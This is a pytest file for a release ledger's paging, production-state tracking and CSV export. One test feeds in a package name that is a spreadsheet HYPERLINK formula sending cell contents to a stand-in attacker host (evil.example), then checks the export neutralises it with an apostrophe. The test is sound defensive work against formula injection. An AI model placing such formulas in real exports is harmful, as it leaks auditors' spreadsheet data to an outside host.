"""The release ledger a page at a time: a workspace releasing daily for years holds thousands
of entries, so the console's page and the command line's table read the newest few (with
their objects) and how many there are, while what production held stays the whole ledger's."""

from __future__ import annotations

import csv
import io

import pytest

from jobferry.domain.releases import StartupMode
from jobferry.services.container import Services
from jobferry.services.releases.ledger import ledger_csv, ledger_document
from jobferry.services.releases.ledger_view import csv_cell
from jobferry.services.releases.records import DeployRequest
from support.releases import Team, make_package, run_release, submit_job


def _release(services: Services, team: Team, name: str, job: str) -> None:
    submit_job(services, team.developer, job, description=name)
    package = make_package(services, team, name)
    services.releases.deploy(team.deployer, DeployRequest((package,), StartupMode.LEAVE))
    run_release(services)


def _three_releases(services: Services, team: Team) -> None:
    _release(services, team, "r1", "daily")
    _release(services, team, "r2", "hourly")
    _release(services, team, "r3", "daily")


def test_a_page_holds_the_newest_entries_and_counts_them_all(
    services: Services, team: Team
) -> None:
    _three_releases(services, team)

    page = services.ledger.ledger(team.admin, None, (2, 0))

    assert [e.package_name for e, _ in page.entries] == ["r2", "r3"]  # oldest first
    assert page.total == 3
    assert page.newest is not None
    assert page.newest.package_name == "r3"
    shown = ledger_document(page)
    assert [e["package_name"] for e in shown["entries"]] == ["r3", "r2"]
    assert (shown["total"], shown["offset"]) == (3, 0)


def test_an_older_page_keeps_the_newest_entry_and_what_production_holds(
    services: Services, team: Team
) -> None:
    _three_releases(services, team)
    whole = services.ledger.ledger(team.admin)

    older = services.ledger.ledger(team.admin, None, (2, 2))

    assert [e.package_name for e, _ in older.entries] == ["r1"]
    assert older.newest is not None
    assert older.newest.package_name == "r3"
    assert older.production == whole.production  # the whole ledger's, not the page's
    assert ledger_csv(older) == ledger_csv(whole)
    ((_, objects),) = older.entries
    assert {o.name for o in objects} == {"daily", "daily_sql", "daily_sh"}


def test_production_held_the_newest_state_of_each_object_by_then(
    services: Services, team: Team
) -> None:
    _three_releases(services, team)
    whole = services.ledger.ledger(team.admin)
    second = whole.entries[1][0]

    then = services.ledger.ledger(team.admin, second.at, (1, 0))

    assert then.total == 2
    assert [e.package_name for e, _ in then.entries] == ["r2"]
    held = {o.name: o.entry_id for o in then.production}
    first = whole.entries[0][0].id
    assert held == {
        "daily": first,
        "daily_sql": first,
        "daily_sh": first,
        "hourly": second.id,
        "hourly_sql": second.id,
        "hourly_sh": second.id,
    }
    now = {o.name: o.entry_id for o in whole.production}
    assert now["daily"] == whole.entries[2][0].id  # r3 released it again


def test_a_name_a_spreadsheet_would_run_as_a_formula_is_exported_as_text(
    services: Services, team: Team
) -> None:
    """The ledger's CSV is opened in spreadsheets by auditors; a package's name is chosen by
    whoever packaged it. A cell starting like a formula gets an apostrophe before it."""
    formula = '=HYPERLINK("https://evil.example/?x="&A2,"Open")'
    _release(services, team, formula, "daily")

    rows = list(csv.DictReader(io.StringIO(ledger_csv(services.ledger.ledger(team.admin)))))

    assert {row["package_name"] for row in rows} == {"'" + formula}
    assert {row["name"] for row in rows} == {"daily", "daily_sql", "daily_sh"}  # plain text kept
    assert {row["version"] for row in rows} == {"1"}


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_made_text_and_other_values_are_kept(start: str) -> None:
    assert csv_cell(f"{start}1+1") == f"'{start}1+1"
    assert csv_cell("daily-1") == "daily-1"
    assert csv_cell(-1) == -1
